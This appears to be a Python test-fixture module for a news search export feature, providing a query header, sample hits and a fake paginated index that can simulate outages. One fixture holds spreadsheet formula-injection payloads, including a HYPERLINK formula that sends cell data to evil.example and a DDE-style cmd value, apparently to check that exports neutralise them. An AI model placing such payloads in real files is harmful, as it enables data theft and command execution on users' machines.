"""Hits, heads and an index of any size for tests of exports."""

from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

import msgspec

from news import wire
from news.enriched import Enriched
from news.errors import Unavailable
from query.tree import All
from search.export.head import Head, Question
from search.port import Hit, Result, Search
from tests.enrich.helpers import GOLDENS
from tests.search.make import document
from tests.web.desk import NOW, hostile, netflix, plain

QUESTION = Question(tree=All())
HEAD = Head(
    query='tag:ai OR "strike, =now"',
    meaning='tag:ai OR "strike, =now"',
    since=datetime(2023, 7, 1, tzinfo=UTC),
    at=NOW,
    hits=4,
    rules="7-0f3a9c",
    coverage="part",
    receipt="Watched in part: 10 of 11 feeds; Sample Gazette cannot be reached since 26 Jul 2023, 06:10 UTC.",
    guildwire="0.1.0",
)


def reference() -> Enriched:
    return wire.decode_enriched((GOLDENS / "reference.enriched.json").read_bytes())


def formula() -> Enriched:
    """Return an item that tries to calculate in every text."""
    return document(
        "0f" * 16,
        '=HYPERLINK("http://evil.example/?"&A1,"Strike vote")',
        summary='+1 for "the" union,\n-2 for the studio',
        outlet="@SUM(A1:A9)",
        companies=("\uff1dcmd|' /C calc'!A0", "Netflix"),
        categories=("\t=1+1",),
    )


def hits() -> list[Hit]:
    return [Hit(each, NOW) for each in (reference(), netflix(), formula(), hostile())]


class LongIndex:
    """An index of any number of items, made when they are asked for; cursors are positions.

    It does not answer from the item ``until`` on, and from then on answers ``extra`` requests less.
    """

    def __init__(self, number: int, *, until: int | None = None, text: str = "") -> None:
        self.number = number
        self.until = until
        self.asked: list[Search] = []
        self._text = text

    def search(self, request: Search) -> Result:
        self.asked.append(request)
        start = int(request.after or 0)
        if self.until is not None and start >= self.until:
            raise Unavailable("the index cannot be reached: is it running?")
        end = min(start + request.limit, self.number)
        found = tuple(Hit(self.item(number), NOW) for number in range(start, end))
        return Result(total=self.number, hits=found, next=str(end) if found and end < self.number else "")

    def item(self, number: int) -> Enriched:
        return msgspec.structs.replace(plain(1, id=f"{number:032x}", title=f"Headline {number}", body=self._text))

    def __getattr__(self, name: str) -> Any:
        raise NotImplementedError(name)


def joined(parts: Sequence[bytes]) -> bytes:
    return b"".join(parts)
